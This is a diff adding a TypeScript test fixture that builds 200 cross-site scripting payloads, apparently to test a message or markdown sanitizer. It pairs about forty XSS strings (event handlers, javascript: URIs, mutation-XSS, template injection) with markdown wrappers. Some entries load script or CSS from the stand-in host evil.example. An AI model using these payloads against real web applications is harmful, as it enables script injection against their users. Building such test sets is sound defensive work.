@@ -1,0 +1,55 @@
+/** What tries to run, in the contexts that have let somebody in somewhere before. */
+const ATTEMPTS = [
+  "<script>alert(1)</script>",
+  "<ScRiPt src=//evil.example/x.js></sCrIpT>",
+  "<img src=x onerror=alert(1)>",
+  '<img src=x onerror="alert(1)" alt=\'',
+  "<svg onload=alert(1)>",
+  "<svg><script>alert&#40;1)</script>",
+  "<svg><animate onbegin=alert(1) attributeName=x>",
+  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+  "<iframe src=javascript:alert(1)></iframe>",
+  "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
+  "<object data=javascript:alert(1)></object>",
+  "<embed src=data:text/html,<script>alert(1)</script>>",
+  "<body onload=alert(1)>",
+  "<details open ontoggle=alert(1)>",
+  "<video><source onerror=alert(1)></video>",
+  "<audio src=x onerror=alert(1)>",
+  "<input autofocus onfocus=alert(1)>",
+  "<form action=javascript:alert(1)><button>go</button></form>",
+  "<a href=javascript:alert(1)>x</a>",
+  "<base href=//evil.example/>",
+  "<link rel=stylesheet href=//evil.example/x.css>",
+  "<style>@import '//evil.example/x.css';</style>",
+  "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
+  "<template><img src=x onerror=alert(1)></template>",
+  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+  "<x style=animation-name:a onanimationstart=alert(1)>",
+  "javascript:alert(1)",
+  "JaVaScRiPt&colon;alert(1)",
+  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
+  "vbscript:msgbox(1)",
+  'https://example.org/" onmouseover=alert(1) x="',
+  "https://example.org/<script>alert(1)</script>",
+  "https://user:javascript@example.org/#';alert(1)//",
+  "{{constructor.constructor('alert(1)')()}}",
+  "#{alert(1)}",
+  "');alert(1);//",
+  '"><script>alert(1)</script>',
+  "&lt;img src=x onerror=alert(1)&gt;",
+  "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
+  "__proto__[innerHTML]=<img src=x onerror=alert(1)>",
+];
+
+/** The same through every form that the messages know. */
+const FORMS: readonly ((attempt: string) => string)[] = [
+  (attempt) => attempt,
+  (attempt) => `**${attempt}**`,
+  (attempt) => `[${attempt}](javascript:alert(1))`,
+  (attempt) => `[x](https://${attempt})`,
+  (attempt) => `\`${attempt}\``,
+];
+
+/** 200 of them. */
+export const HOSTILE = FORMS.flatMap((form) => ATTEMPTS.map(form));
